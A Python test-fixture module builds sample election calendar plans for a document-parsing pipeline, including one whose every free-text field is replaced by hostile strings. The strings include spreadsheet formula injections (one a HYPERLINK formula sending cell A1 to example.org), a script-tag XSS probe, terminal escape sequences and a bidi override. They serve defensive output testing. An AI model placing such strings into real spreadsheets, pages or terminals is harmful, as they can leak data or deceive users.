"""Plans for the tests of the outputs: a small one that has every field, and one whose every text is hostile."""

from typing import Any

import msgspec

from pipeline.record import Plan

HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"look")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "harmless;=1+1",
    "'=1+1",
    "{=1+1}",
    "http://example.org/",
    "internal:'duties'!A1",
    "<script>alert(1)</script>",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "nothing\x00\x08\x0b\x0c\x1f\x7f\x9b more\ufffe",
    "\u202eback\u202c",
    "[bold red]markup[/]",
    '"quotes", commas\r\nand lines',
    "_x0041_ and _x000A_",
    "é‘ң ө ү №",
)

FIXED = {
    "kind", "type", "variant", "language", "columns", "role", "unit", "direction", "bound", "combine", "precision",
    "status", "severity", "withheld",
}  # fmt: skip
"""Fields whose text is one of a list."""


def small() -> Plan:
    """One row with all that a row can have, a second one with nothing."""
    return msgspec.convert(SMALL, Plan)


def hostile(text: str) -> Plan:
    """The small plan with every free text replaced."""
    return msgspec.convert(_replaced(SMALL, text), Plan)


def _replaced(value: Any, text: str, name: str = "") -> Any:
    match value:
        case dict():
            return {key: _replaced(field, text, key) for key, field in value.items()}
        case list():
            return [_replaced(item, text, name) for item in value]
        case str() if name not in FIXED:
            return text
    return value


def quoted(text: str, at: int, **more: Any) -> dict[str, Any]:
    return {"text": text, "span": [at, at + len(text)], **more}


FULL_ROW = {
    "seq": 1,
    "number": "1.1",
    "section": "Districts",
    "duty": "Form the districts",
    "place": "Naryn",
    "deadline_text": "not later than 50 days before (until 25 November)",
    "offsets": [
        quoted(
            "not later than 50 days before", 30, n=50, n2=None, unit="calendar_day", direction="before",
            anchor="voting_day", bound="not_later", condition="if called", combine=None, page=2,
            bbox=[1.0, 2.0, 3.0, 4.0], fragments=[[30, 40], [42, 61]], quote="not later than 50 days before",
        ),
    ],
    "stated": [
        quoted(
            "until 25 November", 62, date="--11-25", end_date=None, time="24:00", end_time=None, precision="day",
            bound="until", year_inferred=True,
        ),
    ],
    "computed": [{"offset": 0, "start": None, "end": "2012-03-17T00:00", "last_day": "2012-03-16", "through": 2}],
    "verdict": {
        "status": "conflicts", "convention": ["event_day_is_day_1"], "difference_days": -3, "explanation": "Late.",
    },
    "bodies": [quoted("the commission", 80, id="cec", role="responsible")],
    "citations": [
        quoted("article 10(4,5)", 95, law="kg.local_elections", law_text="Law", article="10", part=part, point=None)
        for part in ("4", "5")
    ],
    "cells": {"number": [0, 3], "duty": [4, 22], "deadline": [30, 79], "responsible": [80, 110]},
    "fragments": {"deadline": [[30, 40], [42, 79]]},
    "note": "see below",
    "confidence": 0.5,
}  # fmt: skip

EMPTY_ROW = {
    "seq": 2, "number": None, "section": None, "duty": None, "place": None, "deadline_text": None, "offsets": [],
    "stated": [], "computed": [], "bodies": [], "citations": [], "cells": {},
    "verdict": {"status": "no_deadline", "convention": [], "difference_days": None, "explanation": ""},
}  # fmt: skip

SMALL: dict[str, Any] = {
    "schema_version": "1.0",
    "document": {
        "name": "small.txt", "sha256": "0" * 64, "media_type": "text/plain", "language": "ky", "characters": 200,
        "pages": 3,
    },
    "kind": "calendar_plan",
    "title": "A plan",
    "resolution": {"issuer": "cec", "number": "41", "date": "2012-03-13"},
    "election": {"type": "local_council", "variant": "regular", "day": "2012-05-06"},
    "header_spans": {"title": [0, 4]},
    "convention": ["until_includes_the_day"],
    "period": quoted("from 1 to 2 May", 120, start="2012-05-01", end="2012-05-02"),
    "basis": [quoted("the law", 140, law=None, law_text="the law", article=None, part=None, point=None)],
    "columns": ["number", "duty", "deadline", "responsible"],
    "rows": [FULL_ROW, EMPTY_ROW],
    "furniture": [{"role": "footer", "span": [150, 155]}],
    "findings": [
        {"code": "stated-date-conflicts", "severity": "error", "row": 1, "message": "No.", "span": [62, 79]},
        {"code": "number-gap", "severity": "note", "row": None, "message": "A gap.", "span": None},
    ],
    "residue": [
        {"text": "something else", "span": [160, 174]},
        {"text": None, "span": [180, 200], "withheld": "personal_contact"},
    ],
}  # fmt: skip
